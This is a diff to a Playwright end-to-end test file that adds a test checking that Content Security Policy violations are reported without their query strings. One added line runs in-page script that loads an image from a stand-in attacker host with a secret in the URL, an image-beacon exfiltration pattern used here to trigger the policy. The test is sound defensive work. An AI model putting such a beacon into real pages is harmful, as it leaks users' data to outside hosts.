@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import json
+import time
+
 import pytest
-from playwright.sync_api import BrowserContext, Page
+from playwright.sync_api import Browser, BrowserContext, Page
 
 from tests.e2e.attacked import open_chat
-from tests.e2e.started import module_url
+from tests.e2e.conftest import Product
+from tests.e2e.started import Started, module_url
 from tests.e2e.watched import Watched
 
 CSP = {
@@ -76,6 +80,29 @@ def test_the_pages_own_policy_cannot_be_made_twice(watched: Watched) -> None:
         " catch (error) { return error.name; } }"
     )
     assert thrown == "TypeError"
+
+
+def test_what_the_policy_stops_is_reported_without_its_query(
+    product: Product, chromium: Browser
+) -> None:
+    """Of an installation that nobody attacks: ten lines a minute are soon used up."""
+    page = chromium.new_page(base_url=product.url)
+    page.goto("/login/?next=/secret-7a/")
+    page.evaluate("() => { new Image().src = 'https://evil.example/x.png?secret=7a'; }")
+    deadline = time.monotonic() + 15
+    while not (found := _reports(product.started)) and time.monotonic() < deadline:
+        page.wait_for_timeout(100)
+    assert [(one["directive"], one["blocked"], one["page"]) for one in found] == [
+        ("img-src", "https://evil.example", "/login/")
+    ]
+    assert not [one for one in found if "7a" in f"{one['blocked']}{one['page']}"]
+    page.close()
+
+
+def _reports(started: Started) -> list[dict[str, str]]:
+    lines = [line for line in started.output.splitlines() if "csp.stopped" in line]
+    found = [json.loads(line) for line in lines]
+    return [one for one in found if "evil.example" in one["blocked"]]
 
 
 def module_of(page: Page) -> str:
